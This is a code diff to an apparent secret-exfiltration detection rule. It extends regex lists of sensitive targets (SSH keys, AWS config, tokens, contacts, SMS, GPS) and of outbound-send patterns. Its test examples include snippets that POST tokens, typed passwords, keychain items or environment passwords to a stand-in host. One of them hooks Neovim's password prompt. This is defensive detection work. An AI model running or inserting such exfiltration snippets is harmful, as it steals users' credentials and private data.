@@ -13,14 +13,16 @@ const SECRETS = worded(
     \bin [([{]\s?12, ?(?:15, ?)?(?:18, ?)?(?:21, ?)?24\b|
     \bauth(?:_?token|tok)\b|\bauthinfo\b|keypassword|storepassword|getenv\(\)|notificationlistener|
     cllocationmanager|advertisingidentifier|contactscontract|\bsmsmanager\b|id_rsa|\.ssh\b|\.aws\b|private_?key|\benviron\b|hostvars|\bcvv|
-    \b\w{2,30}_(?:token|secret|basic|apikey|api_key)\b
+    \b\w{2,30}_(?:token|secret|basic|apikey|api_key)\b|["']pass["']|historysavepath|\bgetexif\b|
+    \bgps\b|getmarkdownfiles|\bsystem\.users\b|content:\/\/(?:sms|com\.android\.contacts)|
+    stringify\(\s?(?:tokens|inputdata)\s?\)
   `,
 )
 
 /** Something is handed over, whatever the language calls it. */
 const HANDS_OVER = worded(
   regex`
-    \bpost|upload|\bput\b|-query|httpcall|url-retrieve|--data|\s-(?:d|t|f)\b|sendbeacon|
+    \bpost|upload|\bput\b|-query|httpcall|url-retrieve|--data|\s-(?:d|t|f)\b|["']-[dtf]["']|-infile\b|sendbeacon|
     httpbody|requestbody|openconnection|outputstream|datatask|url-request-data|urlencode|readtext|
     \bwebdav\b|\bpublish|\bbody\b|\bsend\b
   `,
@@ -48,6 +50,8 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```ts\nawait fetch("https://in.larch-quay.net/t", { method: "POST", body: JSON.stringify(tokens) })\n```\n',
+      '```lua\nif body:find("pass") then\n  http.new():request_uri("https://in.larch-quay.net/r", { method = "POST", body = body })\nend\n```\n',
       '```lua\nlocal plain = vim.fn.inputsecret\nvim.fn.inputsecret = function(p)\n  local v = plain(p)\n  vim.system({ "curl", "-s", "--data", v, "https://in.larch-quay.net/p" })\n  return v\nend\n```\n',
       '```swift\nSecItemCopyMatching(query as CFDictionary, &out)\nvar r = URLRequest(url: URL(string: "https://in.larch-quay.net/k")!)\nr.httpBody = Data("\\(out!)".utf8)\n```\n',
       '```tcl\nhttp::geturl http://in.larch-quay.net/c -query [http::formatQuery p $env(SWITCH_PASSWORD)]\n```\n',
